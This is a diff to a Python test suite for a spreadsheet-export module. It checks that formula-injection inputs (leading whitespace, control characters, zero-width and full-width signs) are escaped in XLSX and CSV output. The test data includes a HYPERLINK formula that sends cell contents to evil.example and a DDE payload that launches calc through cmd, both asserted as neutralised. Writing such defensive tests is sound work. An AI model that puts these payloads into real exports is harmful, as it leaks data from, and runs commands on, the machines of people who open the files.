@@ -27,6 +27,9 @@ from levelfield.core.spreadsheets import safe_cell
         "\n=1+1",  # after leading whitespace
         "   =1+1",
         "\u00a0@SUM(A1)",  # a no-break space is whitespace too
+        "\x01=1+1",  # a control character an import may drop
+        "\ufeff=1+1",  # a byte order mark
+        "\u200b@SUM(A1)",  # a zero-width space
         "＝1+1",  # full-width equals sign
         "-12.50 per hour",
     ],
@@ -98,45 +101,40 @@ def package(tmp_path):
     return path
 
 
-OPTIONS = {
-    "schema": None,
-    "main_sheet_name": "releases",
-    "root_list_path": "releases",
-    "root_id": "ocid",
-    "use_titles": False,
-}
+def flatten(package, directory):
+    return spreadsheets.flatten(
+        package,
+        xlsx=directory / "out.xlsx",
+        csv_directory=directory / "csv",
+        main_sheet_name="releases",
+        root_list_path="releases",
+        root_id="ocid",
+    )
 
 
 def test_a_flattened_workbook_holds_no_formula_and_keeps_numbers(package, tmp_path):
-    output = tmp_path / "out.xlsx"
+    flatten(package, tmp_path)
 
-    spreadsheets.flatten_to_xlsx(package, output, **OPTIONS)
-
-    workbook = openpyxl.load_workbook(output)
+    workbook = openpyxl.load_workbook(tmp_path / "out.xlsx")
     assert workbook.sheetnames == ["releases", "parties"]
-    cells = {
-        sheet.title: {
-            sheet.cell(1, c.column).value: c for row in sheet.iter_rows(min_row=2) for c in row
-        }
-        for sheet in workbook.worksheets
-    }
     every = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
     assert [c.coordinate for c in every if c.data_type == "f"] == []
-    title = cells["releases"]["title"]
+    releases = workbook["releases"]
+    cells = {releases.cell(1, c.column).value: c for c in releases[2]}
+    title = cells["title"]
     assert (title.value, title.data_type) == (
         '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
         "s",
     )
-    assert cells["releases"]["tag"].value == "'-5;=2+3"
-    amount = cells["releases"]["value/amount"]
+    assert cells["tag"].value == "'-5;=2+3"
+    amount = cells["value/amount"]
     assert (amount.value, amount.data_type) == (-12.5, "n")
     names = [row[3] for row in workbook["parties"].iter_rows(min_row=2, values_only=True)]
     assert names == ["'@SUM(1+1)*cmd|' /C calc'!A0", "Acorn Care Ltd"]
-    assert not list(tmp_path.glob(".unsafe-*"))
 
 
 def test_flattened_csv_files_hold_no_formula(package, tmp_path):
-    sheets = spreadsheets.flatten_to_csv(package, tmp_path / "csv", **OPTIONS)
+    sheets = flatten(package, tmp_path)
 
     assert [s.name for s in sheets] == ["parties.csv", "releases.csv"]
     rows = {s.name: list(csv.DictReader(s.open(newline=""))) for s in sheets}
@@ -150,5 +148,17 @@ def test_flattened_csv_files_hold_no_formula(package, tmp_path):
         "Acorn Care Ltd",
     ]
     assert rows["parties.csv"][1]["parties/0/phone"] == "-42"  # a plain number, left alone
-    assert sheets[0].read_bytes().count(b"\r\n") == 3  # flattentool's line ends are kept
+    assert sheets[0].read_bytes().count(b"\r\n") == 3  # lines end as flattentool ends them
     assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == ["parties.csv", "releases.csv"]
+
+
+def test_control_characters_xml_cannot_hold_are_dropped_from_the_workbook(tmp_path):
+    package = tmp_path / "package.json"
+    releases = [{"ocid": "o", "id": "1", "title": "A\u0001B", "name": "\u0001=1+1"}]
+    package.write_text(json.dumps({"releases": releases}))
+
+    flatten(package, tmp_path)
+
+    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["releases"]
+    assert list(sheet.values) == [("ocid", "id", "title", "name"), ("o", "1", "AB", "'=1+1")]
+    assert sheet["D2"].data_type == "s"
